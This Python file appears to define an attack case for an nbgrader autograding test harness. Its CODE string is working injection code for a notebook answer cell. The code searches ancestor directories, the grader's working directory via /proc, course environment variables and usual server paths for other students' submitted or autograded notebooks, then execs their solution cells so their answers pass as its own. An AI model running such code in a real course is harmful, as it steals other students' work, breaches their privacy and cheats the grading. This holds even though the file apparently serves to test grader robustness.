"""Every answer cell looks for other students' work on this assignment (submitted/<other>/<assignment>/,
autograded/<other>/<assignment>/, nbgrader exchange inbound/) upward from the cwd and the grader's cwd, and execs
the answer cells of one that is not blank.
"""

KIND = "read"
PLACEMENT = "answer_replace"
REST = "blank"
CODE = r'''import os as _atk_os


def _atk_roots():
    """Directories that may be (or contain) the course root: ancestors of the cwd, of the grader's cwd, of the
    course package, the home folder and a few usual places."""
    seeds = [_atk_os.getcwd()]
    for pid in (_atk_os.getppid(),):
        try:
            seeds.append(_atk_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    try:
        import dropout_course
        seeds.append(_atk_os.path.dirname(_atk_os.path.abspath(dropout_course.__file__)))
    except Exception:
        pass
    for key, value in _atk_os.environ.items():
        if value.startswith("/") and _atk_os.path.isdir(value) and ("NBGRADER" in key or "COURSE" in key):
            seeds.append(value)
    seeds += [_atk_os.path.expanduser("~"), "/work", "/srv/nbgrader", "/srv", "/home", "/course", "/tmp"]
    out = []
    for seed in seeds:
        path = _atk_os.path.abspath(seed)
        while True:
            if path not in out:
                out.append(path)
            parent = _atk_os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return out


def _atk_walk(top, want, seconds=10.0, max_depth=7):
    """Bounded os.walk under top: paths p for which want(p) holds."""
    import time
    end, found = time.time() + seconds, []
    top_depth = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in _atk_os.walk(top, onerror=lambda e: None):
        if time.time() > end:
            break
        if dirpath.count("/") - top_depth >= max_depth or dirpath.startswith(("/proc", "/sys", "/dev")):
            dirnames[:] = []
        dirnames[:] = [d for d in dirnames if d not in (".venv", "node_modules", "site-packages", "__pycache__")]
        for name in filenames:
            path = _atk_os.path.join(dirpath, name)
            try:
                if want(path):
                    found.append(path)
            except Exception:
                pass
    return found

def _atk_exec_answers(path, namespace):
    """Execute the answer cells (nbgrader solution=True) of the notebook at path in namespace; True if any ran
    without raising NotImplementedError."""
    import json
    with open(path) as handle:
        nb = json.load(handle)
    ran = False
    for cell in nb.get("cells", []):
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = "".join(cell.get("source", []))
        if cell.get("cell_type") == "code" and meta.get("solution") and "NotImplementedError()" not in source:
            try:
                exec(compile(source, path, "exec"), namespace)
                ran = True
            except Exception as error:
                print("ATTACK: answer cell from", path, "raised", repr(error))
    return ran

import glob as _atk_glob


def _atk_find_others(assignment, me):
    found = []
    for root in _atk_roots():
        for pattern in (f"submitted/*/{assignment}/*.ipynb", f"autograded/*/{assignment}/*.ipynb",
                        f"feedback/*/{assignment}/*.html", f"*/inbound/*{assignment}*/*.ipynb",
                        f"exchange/*/inbound/*{assignment}*/*.ipynb"):
            for path in sorted(_atk_glob.glob(_atk_os.path.join(root, pattern))):
                if f"/{me}/" not in path and f"{me}+" not in path and path.endswith(".ipynb") and path not in found:
                    found.append(path)
        if found:
            break
    return found


_atk_cwd = _atk_os.getcwd()
_atk_assignment, _atk_me = _atk_os.path.basename(_atk_cwd), _atk_os.path.basename(_atk_os.path.dirname(_atk_cwd))
if "_atk_others" not in globals():
    _atk_others = _atk_find_others(_atk_assignment, _atk_me)
    print("ATTACK read_other_student: found", _atk_others)
for _atk_path in _atk_others:
    try:
        if _atk_exec_answers(_atk_path, globals()):
            break
    except Exception as _atk_error:
        print("ATTACK read_other_student: could not use", _atk_path, repr(_atk_error))
'''
